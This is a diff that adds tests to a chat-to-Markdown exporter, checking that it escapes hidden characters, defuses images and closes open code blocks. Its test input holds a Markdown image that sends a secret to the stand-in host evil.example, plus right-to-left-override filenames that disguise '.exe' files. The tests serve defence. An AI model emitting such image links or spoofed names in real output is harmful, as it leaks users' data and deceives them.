@@ -34,6 +34,19 @@ describe('a chat as Markdown', () => {
     assert.ok(text.includes('- `` a`b # c\\u{202E} ``'), text);
   });
 
+  it('shows hidden characters, fetches no pictures, and lets no comment swallow what follows, but leaves code as it is', () => {
+    const text = exported([
+      { kind: 'text', id: '1', text: 'ok \u202Egnp.exe\u{E0041} ![a](https://evil.example/?d=SECRET) <IMG src=x>\n\n`![b](c) <!--`\n```md\n![d](e) <!--\n```\n<!--' },
+      { kind: 'alternative', id: '2', number: 2, reasoning: '', text: '![f][g] <!-- \u202E' },
+    ], [], 'a\u202Edm.exe');
+    assert.ok(text.includes('ok \\u{202E}gnp.exe\\u{E0041} [a](https://evil.example/?d=SECRET) &lt;IMG src=x>\n\n`![b](c) <!--`\n```md\n![d](e) <!--\n```\n&lt;!--'), text);
+    assert.ok(text.includes('> [f][g] &lt;!-- \\u{202E}') && text.startsWith('# a\\u{202E}dm.exe\n'), text);
+  });
+
+  it('closes code that an answer has left open', () => {
+    assert.ok(exported([{ kind: 'text', id: '1', text: '~~~~\ncut' }, { kind: 'text', id: '2', text: '```\nwhole\n```' }]).endsWith('~~~~\ncut\n~~~~\n\n```\nwhole\n```\n'));
+  });
+
   it('has a title where the chat has none', () => {
     assert.match(exported([], [], ''), /^# Chat\n/);
   });
